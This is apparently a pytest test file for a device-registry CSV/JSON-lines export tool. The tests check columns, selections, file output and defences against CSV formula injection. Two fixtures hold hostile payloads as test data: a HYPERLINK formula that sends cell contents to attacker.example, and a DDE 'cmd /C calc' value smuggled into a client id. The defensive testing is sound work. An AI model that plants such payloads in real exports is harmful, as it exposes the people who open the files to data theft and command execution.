"""fleetctl export on moto: CSV with fixed columns and JSON lines, of the whole registry (a parallel scan) or a
selection (the sharded indexes), to stdout or a file; binding items never appear."""

from __future__ import annotations

import base64
import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

from fleetctl.device_export import CSV_COLUMNS, LEFT_OUT, as_text_cell
from fleetctl.errors import ExitCode
from fleetctl.manifest import HEADER
from hook.contract import Attr, DeviceStatus
from tests.support import TABLE_NAME, Fleet, hook_event, rows, valid_parameters

pytestmark = pytest.mark.usefixtures("no_outputs_from_the_environment")

DOCUMENTED_FIRST_COLUMNS = [
    "serialNumber",
    "status",
    "deviceType",
    "manufacturer",
    "firmwareVersion",
    "location",
    "thingName",
    "publicKeySha256",
    "certificateId",
]
"""The first columns of the CSV as docs/fleetctl.md lists them."""


def _registry_with_bindings(fleet: Fleet) -> dict[str, dict[str, str]]:
    """Two pre-registered devices (one with a public key, so a key binding item), two provisioned ones (so
    certificate binding items); returns the device items by serial."""
    key = ec.generate_private_key(ec.SECP256R1()).public_key()
    der = key.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    manifest = fleet.manifest(
        *(f"{row}," for row in rows("TS-000001")),
        f"{rows('TS-000002')[0]},{base64.b64encode(der).decode()}",
        header=f"{HEADER},public_key",
    )
    fleet.run_json("preregister", str(manifest))
    fleet.provision("TS-000003")
    fleet.provision("GW-ABCD", device_type="gateway")
    devices, certificate_bindings = fleet.registry()
    assert len(certificate_bindings) == 2
    return devices


def _raw_keys(fleet: Fleet) -> set[str]:
    pages = fleet.dynamodb.get_paginator("scan").paginate(TableName=TABLE_NAME, ConsistentRead=True)
    return {item["serialNumber"]["S"] for page in pages for item in page["Items"]}


def test_csv_has_the_documented_columns_and_every_device_but_no_binding_item(fleet: Fleet) -> None:
    devices = _registry_with_bindings(fleet)
    assert any(key.startswith("publicKey#") for key in _raw_keys(fleet))
    assert any(key.startswith("certificate#") for key in _raw_keys(fleet))

    result = fleet.run("export")

    assert result.exit_code == ExitCode.OK, result.output
    header, *body = list(csv.reader(io.StringIO(result.stdout)))
    assert header == list(CSV_COLUMNS)
    assert header[: len(DOCUMENTED_FIRST_COLUMNS)] == DOCUMENTED_FIRST_COLUMNS
    exported = {row[0]: dict(zip(header, row, strict=True)) for row in body}
    assert sorted(exported) == ["GW-ABCD", "TS-000001", "TS-000002", "TS-000003"]
    for serial, item in devices.items():
        assert exported[serial] == {column: item.get(column, "") for column in CSV_COLUMNS}
    assert exported["TS-000002"][Attr.PUBLIC_KEY_SHA256]
    assert exported["TS-000003"][Attr.STATUS] == DeviceStatus.ACTIVE
    assert "4 device(s) exported to stdout" in result.stderr


def test_jsonl_holds_each_device_item_without_the_index_keys(fleet: Fleet) -> None:
    devices = _registry_with_bindings(fleet)

    result = fleet.run("export", "--format", "jsonl")

    assert result.exit_code == ExitCode.OK, result.output
    exported = [json.loads(line) for line in result.stdout.splitlines()]
    assert {item[Attr.SERIAL_NUMBER]: item for item in exported} == {
        serial: {name: value for name, value in item.items() if name not in LEFT_OUT}
        for serial, item in devices.items()
    }
    assert all(Attr.STATUS_SHARD not in item and Attr.TYPE_SHARD not in item for item in exported)
    assert list(exported[0])[:2] == [Attr.SERIAL_NUMBER, Attr.STATUS]


FORMULA_REASON = '=HYPERLINK("https://attacker.example/?"&B2&C2,"Details")'
"""A rotation failure reason stored before reasons were narrowed (``hook/rotation_requests.py``)."""


def test_csv_cells_a_device_chose_never_open_as_formulas(
    fleet: Fleet, invoke: Callable[[Any], dict[str, Any]]
) -> None:
    # Manufacturer and Location may hold = and @ (thing attribute values allow them), and - starts a
    # genuine location as well as a formula.
    for serial, manufacturer, location in (("HS-1", "@A1", "=B2"), ("HS-2", "AcmeIoT", "-5th-floor")):
        parameters = valid_parameters(
            SerialNumber=serial, DeviceType="humidity-sensor", Manufacturer=manufacturer, Location=location
        )
        assert invoke(hook_event(parameters, certificate=serial))["allowProvisioning"] is True
    fleet.dynamodb.update_item(
        TableName=TABLE_NAME,
        Key={Attr.SERIAL_NUMBER: {"S": "HS-1"}},
        UpdateExpression="SET #reason = :reason",
        ExpressionAttributeNames={"#reason": Attr.ROTATION_FAILURE_REASON},
        ExpressionAttributeValues={":reason": {"S": FORMULA_REASON}},
    )

    csv_rows = list(csv.DictReader(io.StringIO(fleet.run("export").stdout)))
    jsonl = [json.loads(line) for line in fleet.run("export", "--format", "jsonl").stdout.splitlines()]

    hostile, genuine = sorted(csv_rows, key=lambda row: row[Attr.SERIAL_NUMBER])
    assert (hostile[Attr.MANUFACTURER], hostile[Attr.LOCATION]) == ("'@A1", "'=B2")
    assert hostile[Attr.ROTATION_FAILURE_REASON] == "'" + FORMULA_REASON
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in csv_rows for cell in row.values())
    # Documented round trip: one leading ' dropped where a trigger follows; JSON lines carry values as
    # stored (no JSON reader evaluates a string).
    assert genuine[Attr.LOCATION] == "'-5th-floor"
    assert {item[Attr.SERIAL_NUMBER]: item[Attr.LOCATION] for item in jsonl} == {
        "HS-1": "=B2",
        "HS-2": "-5th-floor",
    }


def test_a_client_id_cannot_start_a_formula_cell_where_a_spreadsheet_splits_at_semicolons(
    fleet: Fleet, invoke: Callable[[Any], dict[str, Any]]
) -> None:
    # The device picks its MQTT client id after the claim policy's prefix; a spreadsheet whose list
    # separator is ";" (locales with a decimal comma) splits the comma-separated line there, so the text
    # between two ";" is a cell of its own (OWASP, "CSV Injection": take care of the field separator).
    client_id = "fleet-claim-x;=cmd|' /C calc'!A0;"
    event = hook_event(
        valid_parameters(SerialNumber="HS-1", DeviceType="humidity-sensor"), client_id=client_id
    )
    assert invoke(event)["allowProvisioning"] is True

    exported = fleet.run("export").stdout
    [row] = list(csv.DictReader(io.StringIO(exported)))
    semicolon_cells = [cell for line in exported.splitlines() for cell in line.split(";")]

    assert row[Attr.CLIENT_ID] == "fleet-claim-x;'=cmd|' /C calc'!A0;"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in semicolon_cells)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("+1", "'+1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("x=1", "x=1"),
        ("'=1", "''=1"),  # read back by dropping one ', as any marked cell
        ("'x", "'x"),
        ("a;b;@c", "a;b;'@c"),
        ("=a;-b", "'=a;'-b"),
        ("", ""),
    ],
)
def test_the_text_marker_goes_before_a_formula_trigger_only_where_a_cell_can_start(
    value: str, cell: str
) -> None:
    assert as_text_cell(value) == cell


def test_a_selection_is_read_through_the_indexes_and_everything_by_a_scan(
    fleet: Fleet, aws_operations: list[str]
) -> None:
    _registry_with_bindings(fleet)

    def exported(*args: str) -> tuple[list[str], set[str]]:
        aws_operations.clear()
        result = fleet.run("export", "--format", "jsonl", *args)
        assert result.exit_code == ExitCode.OK, result.output
        return [json.loads(line)[Attr.SERIAL_NUMBER] for line in result.stdout.splitlines()], set(
            aws_operations
        )

    assert exported("--status", "PREREGISTERED") == (["TS-000001", "TS-000002"], {"Query"})
    assert exported("--type", "gateway") == (["GW-ABCD"], {"Query"})
    assert exported("--status", "ACTIVE", "--type", "temperature-sensor") == (["TS-000003"], {"Query"})
    everything, operations = exported()
    assert (len(everything), operations) == (4, {"Scan"})


def test_output_goes_to_a_file_written_whole(fleet: Fleet, tmp_path: Path) -> None:
    _registry_with_bindings(fleet)
    target = tmp_path / "export" / "registry.csv"
    target.parent.mkdir()

    result = fleet.run("export", "--status", "ACTIVE", "--output", str(target))

    assert result.exit_code == ExitCode.OK, result.output
    assert result.stdout == ""
    assert f"2 device(s) exported to {target}" in result.stderr
    header, *body = list(csv.reader(target.open(encoding="utf-8", newline="")))
    assert header == list(CSV_COLUMNS)
    assert sorted(row[0] for row in body) == ["GW-ABCD", "TS-000003"]
    assert [path.name for path in target.parent.iterdir()] == ["registry.csv"]


def test_an_output_file_that_cannot_be_written_is_a_usage_error(fleet: Fleet, tmp_path: Path) -> None:
    result = fleet.run("export", "--output", str(tmp_path / "missing" / "registry.csv"))

    assert result.exit_code == ExitCode.USAGE
    assert f"cannot write {tmp_path / 'missing' / 'registry.csv'}: No such file or directory" in result.stderr


def test_an_empty_registry_exports_the_header_alone(fleet: Fleet) -> None:
    result = fleet.run("export")

    assert result.exit_code == ExitCode.OK
    assert list(csv.reader(io.StringIO(result.stdout))) == [list(CSV_COLUMNS)]


def test_an_unknown_format_or_status_is_a_usage_error(fleet: Fleet) -> None:
    assert fleet.run("export", "--format", "xml").exit_code == ExitCode.USAGE
    assert fleet.run("export", "--status", "LOST").exit_code == ExitCode.USAGE


def test_every_device_attribute_has_a_csv_column() -> None:
    """A new registry attribute must be given its place in the CSV (and the docs), or be left out on
    purpose."""
    assert set(CSV_COLUMNS) | LEFT_OUT == set(Attr)
    assert len(CSV_COLUMNS) == len(set(CSV_COLUMNS))
